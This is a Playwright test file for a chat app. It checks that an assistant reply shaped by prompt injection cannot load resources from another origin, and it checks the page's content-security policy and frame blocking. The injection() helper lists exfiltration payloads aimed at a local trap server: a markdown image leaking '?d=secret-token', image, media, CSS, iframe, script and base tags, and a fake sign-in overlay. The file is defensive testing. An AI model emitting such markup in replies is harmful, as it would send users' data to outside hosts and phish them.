import { expect, test, type Page } from '@playwright/test';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { e2ePorts } from '../tests/support/ports';
import { open, reload } from './support';

/**
 * A reply that a prompt injection wrote (the OpenRouter stand-in echoes the message back, so the
 * message is the reply) points every kind of resource at a trap server on another origin. The
 * trap counts every request it gets: the page must send it none until the person clicks a chip.
 */

interface Trap {
	origin: string;
	host: string;
	requests: { path: string; headers: IncomingHttpHeaders }[];
	close(): Promise<void>;
}

async function startTrap(): Promise<Trap> {
	const requests: Trap['requests'] = [];
	const server: Server = createServer((req, res) => {
		requests.push({ path: req.url ?? '/', headers: req.headers });
		res.writeHead(200, { 'content-type': 'text/plain' });
		res.end('trapped');
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
	return {
		origin: `http://${host}`,
		host,
		requests,
		close: () => new Promise((resolve) => server.close(() => resolve()))
	};
}

/** Every way a reply could make the browser fetch something, all aimed at the trap. */
function injection(trap: string): string {
	return [
		'[[pace:1]] Here is your summary.',
		'',
		`![chart](${trap}/markdown-image.png?d=secret-token)`,
		'',
		`<img src="${trap}/raw-img.png?d=1" alt="raw">`,
		`<img srcset="${trap}/srcset-1x.png 1x, ${trap}/srcset-2x.png 2x">`,
		`<picture><source srcset="${trap}/picture.webp" type="image/webp"><img src="${trap}/picture.png"></picture>`,
		`<video poster="${trap}/poster.png" src="${trap}/video.mp4" autoplay muted></video>`,
		`<audio src="${trap}/audio.mp3" autoplay></audio>`,
		`<svg width="20" height="20"><image href="${trap}/svg-image.png" width="20" height="20"/>` +
			`<rect width="20" height="20" fill="url(${trap}/fill.svg#p)"/></svg>`,
		`<p style="background-image:url(${trap}/style-background.png)">styled</p>`,
		`<table background="${trap}/table-background.png"><tr><td>cell</td></tr></table>`,
		`<style>@import url(${trap}/import.css); body { background: url(${trap}/style-tag.png) }</style>`,
		`<link rel="stylesheet" href="${trap}/link.css"><link rel="prefetch" href="${trap}/prefetch">`,
		`<iframe src="${trap}/iframe"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed">`,
		`<input type="image" src="${trap}/input.png"><script src="${trap}/script.js"></script>`,
		`<meta http-equiv="refresh" content="0;url=${trap}/refresh"><base href="${trap}/base/">`,
		`<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired: sign in</div>`,
		'',
		'End of summary.'
	].join('\n');
}

const composer = (page: Page) => page.getByRole('textbox', { name: 'Message' });
const lastReply = (page: Page) => page.getByRole('article', { name: 'Assistant reply' }).last();

/** Records the policy violations the page reports, to tell which wall stopped a request. */
async function watchViolations(page: Page) {
	await page.addInitScript(() => {
		const seen: { directive: string; blocked: string }[] = [];
		Object.assign(window, { __violations: seen });
		document.addEventListener('securitypolicyviolation', (event) =>
			seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI })
		);
	});
	return () =>
		page.evaluate(
			() =>
				(window as unknown as { __violations: { directive: string; blocked: string }[] })
					.__violations
		);
}

let trap: Trap;
test.beforeAll(async () => {
	trap = await startTrap();
});
test.afterAll(async () => {
	await trap.close();
});

test('a reply that points images, media and CSS at another site loads nothing from it', async ({
	page
}) => {
	const violations = await watchViolations(page);
	await open(page, '/');
	await composer(page).fill(injection(trap.origin));
	await composer(page).press('Enter');
	await expect(lastReply(page)).toContainText('End of summary.');
	await expect(lastReply(page)).toHaveAttribute('aria-busy', 'false');

	const reply = lastReply(page);
	const chip = (name: RegExp) => reply.getByRole('link', { name });
	await expect(chip(new RegExp(`^image from ${trap.host}$`))).toHaveCount(5);
	await expect(chip(new RegExp(`^video from ${trap.host}$`))).toHaveCount(1);
	await expect(chip(new RegExp(`^audio from ${trap.host}$`))).toHaveCount(1);
	await expect(reply.locator('img, picture, source, video, audio, svg image')).toHaveCount(0);
	await expect(reply.getByText('styled')).toBeVisible();
	// The fake sign-in box stays text in the reply, not a layer over the page.
	const fake = reply.getByText('Session expired: sign in');
	expect(await fake.evaluate((element) => getComputedStyle(element).position)).toBe('static');
	await expect(page.getByRole('button', { name: 'Send' })).toBeVisible();

	// Give anything that was going to load a moment to try.
	await page.waitForTimeout(500);
	expect(trap.requests.map((request) => request.path)).toEqual([]);
	// The renderer stopped all of it: the policy had nothing of the reply's to refuse but the
	// <base>, which it reports while DOMPurify parses the reply (its inert document shares the
	// page's policy) and which is dropped there.
	expect(
		(await violations()).filter((v) => v.blocked.includes(trap.host) && v.directive !== 'base-uri')
	).toEqual([]);

	// The saved reply, rendered again from the database, is as harmless.
	await reload(page);
	await expect(lastReply(page)).toContainText('End of summary.');
	await expect(
		lastReply(page).getByRole('link', { name: new RegExp(`^image from ${trap.host}$`) })
	).toHaveCount(5);
	await page.waitForTimeout(300);
	expect(trap.requests).toEqual([]);

	// A chip is a link: the person may open the image, in a new tab, without a Referer.
	const popup = page.waitForEvent('popup');
	await lastReply(page)
		.getByRole('link', { name: new RegExp(`^image from ${trap.host}$`) })
		.first()
		.click();
	await expect(await popup).toHaveURL(`${trap.origin}/markdown-image.png?d=secret-token`);
	// (and the new tab asks that site for its icon)
	expect(trap.requests.map((request) => request.path).filter((p) => p !== '/favicon.ico')).toEqual([
		'/markdown-image.png?d=secret-token'
	]);
	expect(trap.requests[0].headers.referer).toBeUndefined();
	trap.requests.length = 0;
});

test("the app's own pages break no rule of the policy", async ({ page }) => {
	const violations = await watchViolations(page);
	await open(page, '/');
	await composer(page).fill('[[markdown]] show me');
	await composer(page).press('Enter');
	await expect(lastReply(page).getByRole('button', { name: 'Copy code' })).toBeVisible();
	await expect(lastReply(page)).toHaveAttribute('aria-busy', 'false');
	// A client-side navigation, so the route announcer speaks, with its style allowed.
	await page.getByRole('link', { name: 'Settings' }).first().click();
	await expect(page).toHaveURL(/\/settings$/);
	await expect(page.locator('#svelte-announcer')).toHaveCSS('width', '1px');
	expect(await violations()).toEqual([]);
});

test('the page policy refuses other origins even to code that bypasses the renderer', async ({
	page
}) => {
	const violations = await watchViolations(page);
	await open(page, '/');
	await page.evaluate((origin) => {
		const img = document.createElement('img');
		img.src = `${origin}/policy-img.png`;
		document.body.append(img);
		document.body.style.backgroundImage = `url(${origin}/policy-background.png)`;
		void fetch(`${origin}/policy-fetch`).catch(() => {});
		try {
			new WebSocket(`${origin.replace('http', 'ws')}/policy-socket`).onerror = () => {};
		} catch {
			// refused outright: as good
		}
	}, trap.origin);
	await expect
		.poll(async () => (await violations()).filter((v) => v.blocked.includes(trap.host)).length)
		.toBeGreaterThanOrEqual(4);
	await page.waitForTimeout(300);
	expect(trap.requests).toEqual([]);
	const directives = new Set(
		(await violations()).filter((v) => v.blocked.includes(trap.host)).map((v) => v.directive)
	);
	expect([...directives].sort()).toEqual(['connect-src', 'img-src']);
});

test('pages send the content policy and refuse to be framed', async ({ page, baseURL }) => {
	const response = await page.request.get('/');
	const headers = response.headers();
	const policy = Object.fromEntries(
		headers['content-security-policy'].split(';').map((directive) => {
			const [name, ...values] = directive.trim().split(/\s+/);
			return [name, values];
		})
	);
	expect(policy['default-src']).toEqual(["'self'"]);
	expect(policy['script-src']).toEqual(["'self'", expect.stringMatching(/^'nonce-[\w+/=]+'$/)]);
	expect(policy['style-src']).toEqual(["'self'"]);
	// …but the route announcer's one style attribute, by its hash.
	expect(policy['style-src-attr']).toEqual([
		"'unsafe-hashes'",
		expect.stringMatching(/^'sha256-[\w+/=]+'$/)
	]);
	expect(policy['img-src']).toEqual(["'self'", 'data:', 'blob:']);
	// Dictation's websocket goes to the configured Deepgram (here the stand-in).
	const deepgram = `127.0.0.1:${e2ePorts.deepgram}`;
	expect(policy['connect-src']).toEqual(["'self'", `http://${deepgram}`, `ws://${deepgram}`]);
	expect(policy['object-src']).toEqual(["'none'"]);
	expect(policy['frame-ancestors']).toEqual(["'none'"]);
	expect(policy['base-uri']).toEqual(["'self'"]);
	expect(policy['form-action']).toEqual(["'self'"]);
	expect(headers['x-frame-options']).toBe('DENY');
	// Each page gets its own nonce.
	const again = (await page.request.get('/')).headers()['content-security-policy'];
	expect(again).not.toBe(headers['content-security-policy']);
	// Error pages too.
	const missing = await page.request.get('/no-such-page');
	expect(missing.status()).toBe(404);
	expect(missing.headers()['content-security-policy']).toContain("frame-ancestors 'none'");

	// Another site that frames the app gets an empty frame: the app never renders inside it.
	const framed = page.waitForResponse((r) => r.url() === `${baseURL}/`);
	await page.setContent(`<iframe src="${baseURL}/" width="400" height="300"></iframe>`);
	expect((await framed).status()).toBe(200);
	await page.waitForTimeout(500);
	const frame = page.frames().find((f) => f !== page.mainFrame());
	expect(frame).toBeDefined();
	expect(frame!.url()).not.toBe(`${baseURL}/`);
	await expect(page.frameLocator('iframe').getByRole('textbox', { name: 'Message' })).toHaveCount(
		0
	);
});
